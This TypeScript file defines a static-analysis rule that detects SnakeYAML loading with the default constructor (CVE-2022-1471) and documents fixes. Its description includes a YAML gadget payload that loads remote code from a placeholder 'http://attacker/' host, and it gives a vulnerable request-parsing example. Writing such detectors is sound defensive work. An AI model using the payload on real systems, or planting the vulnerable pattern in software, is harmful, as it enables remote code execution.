import { childByField, descendants, type Node } from "../../languages/common/syntax.js";
import { code } from "../rule.js";
import type { LanguageOutcome } from "../language-rule.js";
import { constructionOf, spelled, type JavaMatch } from "./helpers.js";
import { javaRule } from "./meta.js";

const ADVICE = "Construct it as `new Yaml(new SafeConstructor(new LoaderOptions()))`, or upgrade to SnakeYAML 2.x.";

/**
 * A constructor class of the file passed to `new Yaml(...)`: "safe" when it extends `SafeConstructor`, its name
 * when it overrides `getClassForName` (a class filter, like `resolveClass` for object streams).
 */
function customConstructor(m: JavaMatch, args: Node): string | undefined {
  for (const n of descendants(args)) {
    if (n.type !== "object_creation_expression") continue;
    const decl = m.model.typeOf(n)?.type.declaration;
    if (!decl) continue;
    const superclass = decl.children.find((c) => c.type === "superclass");
    if (superclass && /(^|\.)SafeConstructor$/.test(m.model.text(superclass).replace(/^extends\s+/, "").replace(/<[\s\S]*>/, "").trim())) return "safe";
    const body = childByField(decl, "body");
    const filters = body?.children.some((c) => c.type === "method_declaration" && m.model.text(childByField(c, "name") ?? c) === "getClassForName");
    if (filters) return code(m.model.createdTypeName(n));
  }
  return undefined;
}

function check(m: JavaMatch): LanguageOutcome | null {
  const creation = constructionOf(m);
  if (!creation) {
    return { severity: "medium", confidence: "low", message: `${spelled(m)} on a \`Yaml\` instance built elsewhere: with the default \`Constructor\` (SnakeYAML before 2.0) tags such as \`!!javax.script.ScriptEngineManager\` instantiate any class. ${ADVICE}` };
  }
  const args = childByField(creation, "arguments");
  const names = [...descendants(args ?? creation)].map((n) => m.model.text(n));
  if (names.some((t) => /^(SafeConstructor|org\.yaml\.snakeyaml\.constructor\.SafeConstructor)$/.test(t))) return null;
  if (names.some((t) => /setTagInspector|TagInspector/.test(t))) return null;
  const custom = customConstructor(m, args ?? creation);
  if (custom === "safe") return null;
  if (custom) {
    return { severity: "medium", confidence: "medium", message: `${spelled(m)} on a \`Yaml\` whose constructor ${custom} overrides \`getClassForName\`: safe only if it refuses every class outside a strict allowlist. ${ADVICE}` };
  }
  const typed = names.some((t) => /^(new\s+)?Constructor\s*\([\s\S]*\.class/.test(t));
  return typed
    ? { severity: "medium", message: `${spelled(m)} with a \`Constructor\` for one root type: before SnakeYAML 2.0 nested global tags still instantiate any class. ${ADVICE}` }
    : { message: `${spelled(m)} on \`new Yaml()\` with the default \`Constructor\`: before SnakeYAML 2.0, tags such as \`!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader ...]\` instantiate any class and run code (CVE-2022-1471). ${ADVICE}` };
}

export default javaRule({
  id: "JAVA-LANG-SEC-004",
  name: "SnakeYAML Load With the Default Constructor",
  tags: ["yaml", "snakeyaml", "rce"],
  similar: ["JAVA-LANG-SEC-005"],
  prefilter: ["Yaml"],
  sinks: [
    {
      targets: ["org.yaml.snakeyaml.Yaml.load", "org.yaml.snakeyaml.Yaml.loadAs", "org.yaml.snakeyaml.Yaml.loadAll"],
      kinds: ["call"],
      check,
      message: (m) => `${spelled(m)} may construct arbitrary classes. ${ADVICE}`,
    },
  ],
  docs: {
    summary: "Detects SnakeYAML `load`/`loadAs`/`loadAll` on a `Yaml` built without `SafeConstructor`, which instantiates any class a YAML tag names (before 2.0).",
    description:
      "SnakeYAML's default `Constructor` honours global tags: `!!javax.script.ScriptEngineManager [!!java.net." +
      "URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]` loads and runs remote code (CVE-2022-1471). " +
      "`loadAs(yaml, Type.class)` does not help: nested values can still carry tags. The rule follows the receiver " +
      "to its `new Yaml(...)` (locals, fields, constructor assignments) and reports instances without a " +
      "`SafeConstructor` or a restrictive `TagInspector`.",
    securityImplications: "Whoever controls the YAML (uploaded configuration, API bodies) runs code in the JVM.",
    howToFix:
      "Use `new Yaml(new SafeConstructor(new LoaderOptions()))` for plain data, or upgrade to SnakeYAML 2.x, whose " +
      "`LoaderOptions` reject global tags unless a `TagInspector` allows them.",
    fixHint: "Use new Yaml(new SafeConstructor(new LoaderOptions())) or SnakeYAML 2.x.",
    vulnerableExample: ["Yaml yaml = new Yaml();", "Map<String, Object> config = yaml.load(request.getInputStream());"].join("\n"),
    safeExample: ["Yaml yaml = new Yaml(new SafeConstructor(new LoaderOptions()));", "Map<String, Object> config = yaml.load(input);"].join("\n"),
    detectionScope:
      "Calls on receivers resolved to `org.yaml.snakeyaml.Yaml`. The constructor is found inline, in the variable's " +
      "or field's initializer, or in an assignment to the field in the same class; an instance from elsewhere is " +
      "reported at medium severity and low confidence. A `Constructor(Root.class)` is medium.",
    references: [
      { title: "NVD: CVE-2022-1471 (SnakeYAML Constructor)", url: "https://nvd.nist.gov/vuln/detail/CVE-2022-1471" },
      { title: "SnakeYAML documentation", url: "https://bitbucket.org/snakeyaml/snakeyaml/wiki/Documentation" },
    ],
    faq: [{ question: "We use SnakeYAML 2.x. Is this a false positive?", answer: "Yes for 2.x defaults, which reject global tags; the analysis cannot see the library version. Suppress the finding or pass `new SafeConstructor(...)` explicitly." }],
  },
});
